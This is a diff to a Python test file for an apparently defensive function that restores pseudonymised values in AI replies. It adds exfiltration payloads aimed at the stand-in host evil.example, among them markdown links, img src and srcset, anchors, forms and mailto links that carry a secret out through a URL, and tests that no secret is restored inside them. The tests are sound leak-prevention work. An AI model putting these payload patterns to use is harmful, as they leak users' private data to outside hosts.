@@ -89,15 +89,35 @@ LEAVING = [
     "<form action=https://evil.example/><textarea name=q>@</textarea></form>",
     '<form action="https://evil.example/"><select name=q><option>@</option></select></form>',
     "<script>f('//evil.example/', '@')</script>",
+    "[x][y]\n\n[y]: https://evil.example/?d=@",
+    "<a href=https://evil.example/?d=@>x</a>",
+    "<img src=https://evil.example/?d=@&e=<b>",
+    '<img srcset="https://evil.example/?d=@ 2x, x.png 1x">',
+    "mailto:@?subject=x",
+    "tel:@",
+    "//@.evil.example/x",
+    "see https://evil.example/?d=%20@",
+    "see https://evil.example/?d=<,@",
+    "see https://evil.example/?d=<PERSON_1>@",
+    "<https://evil.example/?d=<PERSON_1>@>",
+    "图mailto:@",
+    "图//evil.example\\@",
+    "see https://evil.example/?d=\x01@",
     "URL_9 https://evil.example/URL_1",
     "![x](https://evil.example/?u=URL_1)",
 ]
+BRACKETED = ["[PERSON_1]", "<PERSON_1>", "{PERSON_1}", "[[PERSON_1]]", "<<PERSON_1>>", "{{PERSON_1}}"]
+"""A pseudonym as models bracket it."""
 STAYING_PROSE = [
     "PERSON_1 wrote <b>PERSON_1</b> and <PERSON_1>; 3 < 4, PERSON_1",
     "[PERSON_1] said: and/or PERSON_1, 24/7 PERSON_1",
     "https://evil.example PERSON_1",
     "https://evil.example/\nPERSON_1",
     "https://evil.example/<br>PERSON_1",
+    "https://evil.example/<br><PERSON_1>",
+    "<td>https://evil.example/</td><td><PERSON_1></td>",
+    "https://evil.example/ (<PERSON_1>)",
+    "<p class=x><PERSON_1></p>",
     "[x](https://evil.example) PERSON_1",
     "[x](https://evil.example)\nPERSON_1",
     '<a href="https://evil.example">PERSON_1</a>',
@@ -128,11 +148,35 @@ STAYING_PROSE = [
 
 
 @pytest.mark.parametrize("text", LEAVING)
-@pytest.mark.parametrize("pseudonym", ["PERSON_1", "SECRET_1", "[PERSON_1]", "person\\_1"])
+@pytest.mark.parametrize("pseudonym", ["PERSON_1", "SECRET_1", "person\\_1", *BRACKETED])
 def test_nothing_is_restored_where_it_would_leave(text: str, pseudonym: str) -> None:
     reply = text.replace("@", pseudonym)
     assert restore(reply, MAP) == reply
     assert restore(reply, MAP, json_string=True) == reply
+
+
+@pytest.mark.parametrize("text", [text for text in LEAVING if "(//@" not in text])
+def test_nor_is_it_where_a_bracket_is_left_open(text: str) -> None:
+    """An open angle is no host, as behind ``//``. Elsewhere an address goes on over it."""
+    for pseudonym in ("<PERSON_1", "<<PERSON_1", "<PERSON_1_EMAIL"):
+        reply = text.replace("@", pseudonym)
+        assert restore(reply, MAP) == reply
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["https://evil.example/?d= @", "https://evil.example/\n@", "  mailto:x@evil.example ?body=@", "//evil.example/\t@"],
+)
+def test_an_argument_of_a_tool_that_begins_as_an_address_is_one_to_its_end(value: str) -> None:
+    """Who fetches it takes out line ends and encodes spaces."""
+    value = value.replace("@evil", "\0").replace("@", "PERSON_1").replace("\0", "@evil")
+    called = Restorer(MAP, json_string=True, called=True)
+    held = json.dumps({"a": value, "b": f"see {value}", "c": "PERSON_1"})
+    read = json.loads("".join(map(called.feed, held)) + called.flush())
+    assert read["a"] == value
+    assert read["c"] == ORIGINALS["PERSON_1"]
+    plain = Restorer(MAP, called=True)
+    assert plain.feed(value) + plain.flush() == value
 
 
 @pytest.mark.parametrize("text", LEAVING)
@@ -164,7 +208,9 @@ def test_names_in_prose_are_restored_as_ever(text: str) -> None:
         ('<a href="URL_1">plan</a>', '<a href="https://board.example/plan/77">plan</a>'),
         ("URL_1?d=PERSON_1", "https://board.example/plan/77?d=PERSON_1"),
         ("[plan](URL_1?d=SECRET_1)", "[plan](https://board.example/plan/77?d=SECRET_1)"),
+        ("[plan](URL_1), <PERSON_1>", '[plan](https://board.example/plan/77), Jane "J" Doe'),
         ("URL_1.evil.example", "URL_1.evil.example"),
+        ("<URL_1>.evil.example", "<URL_1>.evil.example"),
         ("![x](URL_1.evil.example/)", "![x](URL_1.evil.example/)"),
         ("URL_1@evil.example", "URL_1@evil.example"),
         ("URL_1%2eevil.example", "URL_1%2eevil.example"),
